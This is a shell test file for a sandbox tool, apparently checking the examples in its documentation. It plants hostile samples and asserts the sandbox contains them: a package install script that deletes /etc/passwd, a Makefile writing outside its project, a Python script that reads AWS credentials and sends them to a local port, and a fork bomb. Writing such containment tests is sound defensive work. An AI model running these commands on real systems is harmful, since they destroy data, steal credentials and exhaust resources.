# The examples of docs/sandbox.md, one line each, with the end that the page says.
# shellcheck shell=bash

# shellcheck source=../words/sandbox.sh
. "$STAGE/words/sandbox.sh"

test_the_script_of_a_package() {
  only_knarr
  requires native 'a root file system that can be written'
  command -v dpkg-deb >/dev/null || skip 'needs dpkg'
  mkdir -p "$T/package/DEBIAN" "$T/package/usr/share/knarr-it"
  echo file >"$T/package/usr/share/knarr-it/file"
  printf 'Package: knarr-it\nVersion: 1\nArchitecture: all\nMaintainer: it <it@localhost>\nDescription: of a test\n' >"$T/package/DEBIAN/control"
  printf '#!/bin/sh\nrm -f /etc/passwd\necho bad >>/etc/profile\n' >"$T/package/DEBIAN/postinst"
  chmod 755 "$T/package/DEBIAN/postinst"
  dpkg-deb --root-owner-group -b "$T/package" "$T/package.deb" >/dev/null
  box --diff --ro-bind "$T/package.deb" box -- dpkg -i "$T/package.deb"
  assert_eq "$RC" 0 "$ERR"
  assert_match "$ERR" 'D /etc/passwd  file'
  assert_match "$ERR" 'C /etc/profile  '
  assert_match "$ERR" 'A /usr/share/knarr-it/file  '
  assert_absent /usr/share/knarr-it
  assert_exists /etc/passwd
}

of_compiler() {
  mkdir -p "$T/project"
  echo 'int main(void) { return 7; }' >"$T/project/main.c"
  printf 'main: main.c\n\tcc -o main main.c\n\ttouch /usr/made-by-make || touch /made-by-make\n' >"$T/project/Makefile"
  [ "$WHO" = root ] || chown -R 1000:1000 "$T/project"
  cd "$T/project"
  IN=$T/project "$1" --write . box -- make -s
  cd "$T"
  assert_eq "$RC" 0 "$ERR"
  RC=0
  "$T/project/main" || RC=$?
  assert_eq "$RC" 7
  assert_absent /usr/made-by-make
  rm -r "$T/project"
}
test_a_compiler() {
  only_knarr
  requires native 'a compiler'
  command -v make cc >/dev/null || skip 'needs make and cc'
  both of_compiler
}

of_thief() {
  [ -d "$T/home" ] || mkdir -p "$T/home"
  mkdir -p "$T/home/.aws"
  echo KEY >"$T/home/.aws/credentials"
  echo 'import os, urllib.request
key = None
try: key = open(os.path.expanduser("~/.aws/credentials")).read()
except OSError as err: print("no key:", err.strerror)
try: urllib.request.urlopen("http://127.0.0.1:" + os.environ["PORT"], (key or "").encode(), 5); print("told")
except OSError as err: print("nobody told")' >"$T/home/thief.py"
  HOME=$T/home "$1" --ro-bind "$T/home" --env PORT --env "HOME=$T/home" box -- /usr/bin/python3 "$T/home/thief.py"
  assert_eq "$OUT" $'no key: No such file or directory\nnobody told' "$ERR"
}
test_a_thief() {
  only_knarr
  [ -x /usr/bin/python3 ] || skip 'needs python3'
  export PORT=1
  both of_thief
}

test_a_fork_bomb() {
  requires controller pids
  only_knarr
  box --pids 50 --timeout 2s box -- sh -c 'bomb() { bomb | bomb & }; bomb; sleep 100'
  [[ $RC == @(124|2) ]] || fail "$RC $ERR"
}
